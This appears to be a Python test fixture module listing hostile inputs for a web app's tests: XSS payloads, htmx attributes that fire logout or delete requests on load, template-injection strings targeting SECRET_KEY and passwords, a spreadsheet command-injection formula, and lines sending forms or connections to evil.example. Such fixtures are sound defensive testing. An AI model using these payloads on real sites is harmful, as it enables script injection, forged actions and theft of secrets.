"""More text that wants to be more than text, besides :mod:`tests.hostile`."""

from __future__ import annotations

from collections.abc import Iterable

from tests.hostile import MARKDOWN, SCRIPT, TAGS

HTMX_ATTRIBUTES = [
    "<b hx-get=/account/logout/ hx-trigger=load>x</b>",
    "<b hx-post='/issues/1/undo/' hx-trigger='load'>x</b>",
    "<b hx-delete=/x hx-trigger='revealed'>x</b>",
    "<b hx-vals='js:{a:alert(1)}' hx-get=/>x</b>",
    '<b hx-headers=\'{"X-CSRFToken":"x"}\'>x</b>',
    "<b hx-swap-oob=innerHTML:#main>x</b>",
    "<b hx-action=/x hx-method=post>x</b>",
    "<b hx-config='{\"allowEval\":true}'>x</b>",
    '<meta name=htmx-config content=\'{"mode":"cors"}\'>',
    "<b hx-confirm=x hx-include=body hx-post=//evil.example>x</b>",
    "<b hx-on::load='alert(1)'>x</b>",
    "<b sse-connect=//evil.example ws-connect=//evil.example>x</b>",
    "<template hx type=partial hx-target='#main'>x</template>",
    '" hx-get="/x" hx-trigger="load',
    "' hx-post='/x' hx-trigger='load",
]
ATTRIBUTES = [
    f'" onfocus="{SCRIPT}" autofocus="',
    f'" onmouseover={SCRIPT} x="',
    f"` onmouseover={SCRIPT} x=`",
    '" style="position:fixed;inset:0',
    "x style=background:url(//evil.example)",
    '" popovertarget="side" x="',
    '" formaction="//evil.example" type="submit',
    '" form="filters" name="q" value="x',
    '" href="javascript:alert(1)" x="',
    '" srcdoc="<script>alert(1)</script>',
    '"/><input type=hidden name=csrfmiddlewaretoken value=x><b x="',
    '" data-undo data-dismiss data-card="c1',
    '" id="main" name="csrf" content="x',
    "=cmd|' /C calc'!A0",
    "\t\r\nonclick=alert(1)",
]
ELEMENTS = [
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "<p popover id=side>x</p><button popovertarget=side>x</button>",
    "<object type=text/html data='/account/logout/'></object>",
    "<portal src=//evil.example></portal>",
    "<picture><source srcset=//evil.example/x.png><img></picture>",
    "<video poster=//evil.example/x.png></video>",
    "<link rel=prefetch href=//evil.example/>",
    "<link rel=modulepreload href=/static/js/app.js>",
    '<script type=importmap>{"imports":{"x":"//evil.example"}}</script>',
    '<script type=speculationrules>{"prefetch":[]}</script>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<table background=//evil.example/x.png><td>x</table>",
    "<input type=image src=//evil.example/x.png formaction=//evil.example>",
    "<isindex action=//evil.example prompt=x>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
    "<bgsound src=//evil.example><layer src=//evil.example>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "</main></body></html><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</h1></header><a href=javascript:alert(1)>x</a>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
UNICODE = [
    "\u202egnp.exe\u202c<b>x</b>",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "<\u200bscript>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "\ufeff<script>alert(1)</script>",
    "\u0085<svg/onload=alert(1)>",
    "<\u0130mg src=x onerror=alert(1)>",
    "<img\u3000src=x\u3000onerror=alert(1)>",
    "‹script›alert(1)‹/script›",
    "＂ onfocus=alert(1) autofocus ＂",
    "ʺ><script>alert(1)</script>",
    "<a href=\u0001javascript:alert(1)>x</a>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢<b onclick=alert(1)>x</b>",
    "𝕁𝕒𝕧𝕒𝕊𝕔𝕣𝕚𝕡𝕥:alert(1)",
]
TEMPLATES = [
    "{{ request.user.password }}",
    "{% include 'admin/base.html' %}",
    "{% csrf_token %}{{ csrf_token }}",
    "{{ settings.SECRET_KEY }}",
    "{# hidden #}{% load static %}",
    "{% endblock %}{% endfor %}</title>",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(secret)s %s %d {0} {0.__class__}",
    "[[constructor.constructor('alert(1)')()]]",
]
MORE = [*HTMX_ATTRIBUTES, *ATTRIBUTES, *ELEMENTS, *UNICODE, *TEMPLATES]
PAYLOADS = list(dict.fromkeys([*TAGS, *MARKDOWN, *MORE]))


def packed(longest: int, texts: Iterable[str] = PAYLOADS) -> list[str]:
    """All payloads that fit, as few lines as can be, none longer than a column takes."""
    lines = [""]
    for text in texts:
        if len(text) > longest:
            continue
        joined = f"{lines[-1]} {text}".strip()
        if len(joined) <= longest:
            lines[-1] = joined
        else:
            lines.append(text)
    return lines
